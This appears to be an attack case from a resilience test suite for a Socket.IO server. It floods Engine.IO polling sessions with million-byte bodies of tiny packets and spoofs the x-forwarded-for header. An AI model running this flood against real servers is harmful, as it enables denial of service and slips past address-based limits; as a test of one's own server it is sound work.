import { type AttackOutcome, declareAttack, type Target } from '../attack.ts'
import { outcomeOf } from '../client.ts'

const PACKETS = 333_000
const KINDS = ['3', '6', '40', '40/text-debate,', '42["x"]'] as const
/** Engine.IO takes no body over a million bytes. */
const LARGEST = 1_000_000
/** What separates the packets of a request (Engine.IO protocol, version 4). */
const SEPARATOR = '\x1e'

const ADDRESS = '/socket.io/?EIO=4&transport=polling'

const connect = async ({ url, address }: Target): Promise<string> => {
  const answer = await fetch(url + ADDRESS, { headers: { 'x-forwarded-for': address } })
  const { sid } = JSON.parse((await answer.text()).slice(1)) as { sid: string }
  return `${url}${ADDRESS}&sid=${sid}`
}

const send = (session: string, address: string, body: string): Promise<AttackOutcome> =>
  outcomeOf(
    fetch(session, {
      method: 'POST',
      headers: { 'content-type': 'text/plain', 'x-forwarded-for': address },
      body,
    }),
  )

/** A million bytes of the smallest packets in one request of the polling transport. */
export const attack = declareAttack({
  name: `${KINDS.length} polling requests of up to ${PACKETS} packets`,
  prepare: target => Promise.all(KINDS.map(() => connect(target))),
  run: async ({ address }, sessions) => {
    const outcomes: AttackOutcome[] = []
    for (const [nth, kind] of KINDS.entries()) {
      const session = sessions[nth] ?? ''
      const packets = Math.min(PACKETS, Math.floor(LARGEST / (kind.length + 1)))
      outcomes.push(await send(session, address, Array(packets).fill(kind).join(SEPARATOR)))
      // 400: the connection is closed.
      outcomes.push(await send(session, address, kind))
    }
    return outcomes
  },
})
